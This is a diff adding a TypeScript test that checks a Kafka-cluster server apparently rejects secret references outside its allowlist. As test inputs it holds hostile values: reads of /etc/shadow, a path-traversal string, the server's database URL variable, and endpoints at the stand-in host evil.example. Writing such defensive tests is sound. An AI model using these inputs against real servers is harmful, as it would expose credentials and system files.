@@ -193,4 +193,43 @@ describe('secrets', () => {
     await secrets.refresh();
     expect(environment).toEqual({ HOME: '/root' });
   });
+
+  test('a cluster refers to no variable and no file of the server but those that the machine allows', async () => {
+    const { root } = await start({
+      file: new Map([['secrets.allowed', ['env:KAFKA_*', 'file:/run/secrets/*', 'file:/a/b']]]),
+    });
+    const cluster = (password: object) => ({
+      name: 'east',
+      bootstrap: ['evil.example:9092'],
+      security: { protocol: 'SASL_SSL', mechanism: 'PLAIN', username: 'u', password },
+    });
+    const tried = async (password: object) =>
+      (await root('POST', '/api/v1/clusters/test', cluster(password))).statusCode;
+    expect(await tried({ env: 'KAFKA_EAST' })).toBe(200);
+    expect(await tried({ file: '/run/secrets/east' })).toBe(200);
+    expect(await tried({ file: '/a/b' })).toBe(200);
+    expect(await tried({ store: 'east' })).toBe(200);
+    for (const password of [
+      { env: 'LOCKSTEP_DATABASE_URL' },
+      { env: 'KAFKA' },
+      { file: '/etc/shadow' },
+      { file: '/run/secrets/../../etc/shadow' },
+      { file: 'run/secrets/east' },
+      { file: '/a/b/c' },
+    ]) {
+      expect(await tried(password), JSON.stringify(password)).toBe(403);
+      expect((await root('POST', '/api/v1/clusters', cluster(password))).statusCode).toBe(403);
+    }
+    expect((await root('POST', '/api/v1/clusters', cluster({ store: 'east' }))).statusCode).toBe(201);
+    const changed = await root('PUT', '/api/v1/clusters/east', cluster({ file: '/etc/shadow' }));
+    expect(changed.json()).toMatchObject({ code: 'ACCESS_DENIED' });
+    const token = { endpoint: 'https://evil.example', clientId: 'x', clientSecret: { file: '/etc/shadow' } };
+    const byToken = { protocol: 'SASL_SSL', mechanism: 'OAUTHBEARER', token };
+    const tokenCluster = { name: 'west', bootstrap: ['b:1'], security: byToken };
+    expect((await root('POST', '/api/v1/clusters', tokenCluster)).statusCode).toBe(403);
+    const widened = await root('PUT', '/api/v1/config/options/secrets.allowed', {
+      value: ['env:LOCKSTEP_DATABASE_URL'],
+    });
+    expect(widened.json()).toMatchObject({ code: 'CONFIG_INVALID' });
+  });
 });
